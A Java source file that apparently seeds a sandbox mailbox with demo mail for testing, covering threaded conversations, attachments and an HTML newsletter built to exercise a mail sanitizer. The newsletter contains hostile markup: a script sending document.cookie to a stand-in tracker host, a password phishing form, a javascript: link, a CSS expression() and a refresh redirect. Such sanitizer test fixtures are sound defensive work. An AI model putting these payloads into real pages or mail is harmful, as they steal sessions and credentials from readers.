package dev.gmailserverauth.sandbox.internal.demo;

import dev.gmailserverauth.sandbox.SandboxAttachment;
import dev.gmailserverauth.sandbox.SandboxMessage;
import dev.gmailserverauth.sandbox.internal.gmail.GmailAccountMailbox;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Alice's hand-made demo mail, beside the generated rest: conversations of 3–5 messages, an HTML newsletter
 * with everything a mail sanitizer has to deal with, and attachments of several types, one with a non-ASCII name.
 */
final class DemoShowcase {
    /** How many messages {@link #addTo} adds. */
    static final int MESSAGES = 20;

    private static final String ALICE = "Alice Example <alice@example.com>";
    private static final String OLIVIA = "Olivia Chen <olivia.chen@example.org>";
    private static final String BOB = "Bob Builder <bob@example.com>";
    private static final String TRAVEL = "Travel Desk <bookings@travel.example>";
    private static final String ZOE = "Zoë Müller <zoe.mueller@example.de>";
    private static final String NEWS = "Newsletter Weekly <news@letters.example>";
    /** A 16×16 PNG (a blue disc with a white "L"), small enough to keep in the source. */
    static final byte[] LOGO_PNG = Base64.getDecoder().decode(
            "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAOUlEQVR42mP4TyJgQOZ4tb3AirBrwKUaTQ8DMaqR9TCgqSbotlENaHGEqZlcDSRHHDlJg5zERyQAABR6QTsGocw8AAAAAElFTkSuQmCC");
    static final String LOGO_CID = "logo@letters.example";
    /** A fixed time for zip entries, so that the demo stays the same from run to run. */
    private static final long ZIP_TIME = Instant.parse("2026-05-01T00:00:00Z").toEpochMilli();

    private DemoShowcase() {}

    /** One message of a conversation; the first starts the thread, the others reply in it. */
    private record Turn(String from, String to, Duration afterStart, String text, List<String> labels, List<SandboxAttachment> attachments) {
        static Turn of(String from, String to, Duration afterStart, String text, String... labels) {
            return new Turn(from, to, afterStart, text, List.of(labels), List.of());
        }

        Turn with(SandboxAttachment... files) {
            return new Turn(from, to, afterStart, text, labels, List.of(files));
        }
    }

    static void addTo(GmailAccountMailbox mailbox, Instant anchor) {
        conversation(mailbox, "Project Apollo kickoff", anchor.minus(Duration.ofDays(12)), List.of(
                Turn.of(OLIVIA, ALICE, Duration.ZERO, "Hi Alice,\n\nshall we kick off Apollo next Monday? I'd like to agree on the scope first.\n\nOlivia",
                        "INBOX", "IMPORTANT", "Projects/Apollo"),
                Turn.of(ALICE, OLIVIA, Duration.ofHours(2), "Monday works. I'll draft the plan.\n\nAlice", "SENT", "Projects/Apollo"),
                Turn.of(ALICE, OLIVIA, Duration.ofHours(26), "Here is the draft plan, comments welcome.\n\nAlice", "SENT", "Projects/Apollo")
                        .with(new SandboxAttachment("apollo-plan.pdf", "application/pdf", pdf("Apollo plan, draft 1"))),
                Turn.of(OLIVIA, ALICE, Duration.ofHours(30), "Looks good. Two notes on the timeline; see you Monday.\n\nOlivia",
                        "INBOX", "IMPORTANT", "Projects/Apollo"),
                Turn.of(OLIVIA, ALICE, Duration.ofDays(3), "Kickoff notes are in the wiki. Next sync on Thursday.\n\nOlivia",
                        "INBOX", "UNREAD", "IMPORTANT", "Projects/Apollo")));
        conversation(mailbox, "Dinner on Saturday?", anchor.minus(Duration.ofDays(6)), List.of(
                Turn.of(BOB, ALICE, Duration.ZERO, "Hey, dinner at ours on Saturday? Kids would love to see you.\n\nBob", "INBOX", "Family"),
                Turn.of(ALICE, BOB, Duration.ofHours(1), "Yes please! I'll bring dessert.\n\nAlice", "SENT", "Family"),
                Turn.of(BOB, ALICE, Duration.ofHours(3), "Great, 7 pm then. See you!\n\nBob", "INBOX", "STARRED", "Family")));
        conversation(mailbox, "Trip to Lisbon", anchor.minus(Duration.ofDays(9)), List.of(
                Turn.of(TRAVEL, ALICE, Duration.ZERO, "Dear Alice,\n\nyour flight LIS → BER on 14 June is on hold until tomorrow.\n\nTravel Desk",
                        "INBOX", "CATEGORY_UPDATES", "Travel"),
                Turn.of(ALICE, TRAVEL, Duration.ofHours(4), "Please book it, window seat if possible.\n\nAlice", "SENT", "Travel"),
                Turn.of(TRAVEL, ALICE, Duration.ofHours(20), "Booked. Your e-ticket is attached.\n\nTravel Desk", "INBOX", "STARRED", "Travel")
                        .with(new SandboxAttachment("e-ticket LIS-BER.pdf", "application/pdf", pdf("E-ticket LIS-BER, 14 June"))),
                Turn.of(TRAVEL, ALICE, Duration.ofDays(4), "Online check-in is now open for your flight.\n\nTravel Desk",
                        "INBOX", "UNREAD", "CATEGORY_UPDATES", "Travel")));
        conversation(mailbox, "Übersicht März", anchor.minus(Duration.ofDays(15)), List.of(
                Turn.of(ZOE, ALICE, Duration.ZERO, "Hallo Alice,\n\nanbei die Übersicht für März.\n\nViele Grüße\nZoë", "INBOX", "Receipts")
                        .with(new SandboxAttachment("Übersicht März.pdf", "application/pdf", pdf("Übersicht März 2026"))),
                Turn.of(ALICE, ZOE, Duration.ofHours(5), "Danke, Zoë! Is the April one coming too?\n\nAlice", "SENT", "Receipts"),
                Turn.of(ZOE, ALICE, Duration.ofDays(1), "Ja, Anfang Mai.\n\nZoë", "INBOX", "Receipts")));

        mailbox.add(newsletter(anchor.minus(Duration.ofDays(2))));
        mailbox.add(SandboxMessage.of("Bank of Example <alerts@bank.example>", ALICE, "Invoice April 2026",
                        anchor.minus(Duration.ofDays(4)), "Your invoice for April is attached, with the transactions as CSV.\n")
                .withLabels(List.of("INBOX", "STARRED", "CATEGORY_UPDATES", "Receipts"))
                .withAttachments(List.of(new SandboxAttachment("invoice-2026-04.pdf", "application/pdf", pdf("Invoice April 2026")),
                        new SandboxAttachment("transactions-2026-04.csv", "text/csv",
                                "date,description,amount,currency\n2026-04-03,Café & croissants,7.40,EUR\n2026-04-17,Train LIS,23.10,EUR\n"
                                        .getBytes(StandardCharsets.UTF_8)))));
        mailbox.add(SandboxMessage.of("José García <jose@example.es>", ALICE, "Photos from the weekend 📷",
                        anchor.minus(Duration.ofDays(3)), "Two from the beach, more soon.\n\nJosé\n")
                .withLabels(List.of("INBOX", "UNREAD", "CATEGORY_SOCIAL"))
                .withAttachments(List.of(new SandboxAttachment("beach.png", "image/png", LOGO_PNG),
                        new SandboxAttachment("sunset.png", "image/png", LOGO_PNG))));
        mailbox.add(SandboxMessage.of("Linus <linus@kernel.example>", ALICE, "Apollo source snapshot",
                        anchor.minus(Duration.ofDays(1)), "The snapshot and the firmware image you asked for.\n\nLinus\n")
                .withLabels(List.of("INBOX", "UNREAD", "Projects/Apollo"))
                .withAttachments(List.of(new SandboxAttachment("apollo-src.zip", "application/zip", zip()),
                        new SandboxAttachment("firmware.bin", "application/octet-stream", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}))));
        mailbox.add(SandboxMessage.of("Amazon.example <ship-confirm@amazon.example>", ALICE, "Your order has shipped",
                        anchor.minus(Duration.ofHours(20)), "Your order 112-4411 is on its way and arrives Tuesday.\n")
                .withHtmlBody("<p>Your order <b>112-4411</b> is on its way and arrives Tuesday.</p>"
                        + "<p><a href=\"https://amazon.example/track/112-4411\">Track your parcel</a></p>"
                        + "<img src=\"https://tracker.example/open.gif?m=112-4411\" width=\"1\" height=\"1\" alt=\"\">")
                .withLabels(List.of("INBOX", "CATEGORY_UPDATES")));
    }

    private static void conversation(GmailAccountMailbox mailbox, String subject, Instant start, List<Turn> turns) {
        Optional<String> thread = Optional.empty();
        for (Turn t : turns) {
            SandboxMessage m = new SandboxMessage(t.from(), t.to(), thread.isEmpty() ? subject : "Re: " + subject,
                    start.plus(t.afterStart()), t.text(), Optional.empty(), t.labels(), thread, t.attachments());
            String id = mailbox.add(m);
            if (thread.isEmpty()) thread = Optional.of(id);
        }
    }

    /**
     * multipart/related (multipart/alternative text + HTML, and the inline logo): a remote stylesheet, a
     * tracking pixel, a CSS background from the tracker, and the constructs a sanitizer must remove
     * ({@code <script>}, {@code onclick}, a {@code javascript:} link, a {@code <form>}, {@code <base>},
     * {@code <meta http-equiv=refresh>}, a CSS {@code expression()}).
     */
    private static SandboxMessage newsletter(Instant date) {
        String html = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Letters Weekly</title>"
                + "<base href=\"https://letters.example/\">"
                + "<meta http-equiv=\"refresh\" content=\"0;url=https://tracker.example/redirect\">"
                + "<link rel=\"stylesheet\" href=\"https://tracker.example/css/newsletter.css\">"
                + "<style>body{font-family:Georgia,serif}.cta{background:url('https://tracker.example/bg.png');width:expression(alert(1))}</style>"
                + "<script>new Image().src='https://tracker.example/steal?c='+document.cookie;</script>"
                + "</head><body>"
                + "<img src=\"cid:" + LOGO_CID + "\" alt=\"Letters Weekly\" width=\"16\" height=\"16\">"
                + "<h1>This week in Example Town</h1>"
                + "<p onclick=\"alert('clicked')\">The new library opens on Friday. <a href=\"https://letters.example/read/42\">Read the story</a>.</p>"
                + "<p class=\"cta\"><a href=\"javascript:alert(document.domain)\">Claim your prize</a></p>"
                + "<form action=\"https://tracker.example/phish\" method=\"post\"><input type=\"password\" name=\"password\">"
                + "<button type=\"submit\">Sign in to read more</button></form>"
                + "<p>You get this because you subscribed. <a href=\"https://letters.example/unsubscribe?u=alice\">Unsubscribe</a></p>"
                + "<img src=\"https://tracker.example/pixel.gif?u=alice&amp;n=42\" width=\"1\" height=\"1\" alt=\"\">"
                + "</body></html>";
        String text = "This week in Example Town\n\nThe new library opens on Friday. Read the story: https://letters.example/read/42\n\n"
                + "You get this because you subscribed. Unsubscribe: https://letters.example/unsubscribe?u=alice\n";
        return SandboxMessage.of(NEWS, ALICE, "Letters Weekly: the library opens Friday", date, text)
                .withHtmlBody(html)
                .withLabels(List.of("INBOX", "UNREAD", "CATEGORY_PROMOTIONS"))
                .withAttachments(List.of(SandboxAttachment.inline("logo.png", "image/png", LOGO_PNG, LOGO_CID)));
    }

    /** A minimal one-page PDF showing {@code title}. */
    private static byte[] pdf(String title) {
        String ascii = title.replaceAll("[^\\x20-\\x7e]", "?").replace("(", "[").replace(")", "]");
        String content = "BT /F1 18 Tf 72 720 Td (" + ascii + ") Tj ET";
        String pdf = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n"
                + "4 0 obj<</Length " + content.length() + ">>stream\n" + content + "\nendstream endobj\n"
                + "5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";
        return pdf.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] zip() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes, StandardCharsets.UTF_8)) {
            for (String[] file : List.of(new String[] {"apollo/README.md", "# Apollo\n\nSnapshot of 2026-05-31.\n"},
                    new String[] {"apollo/src/main.c", "int main(void) { return 0; }\n"})) {
                ZipEntry entry = new ZipEntry(file[0]);
                entry.setTime(ZIP_TIME);
                zip.putNextEntry(entry);
                zip.write(file[1].getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
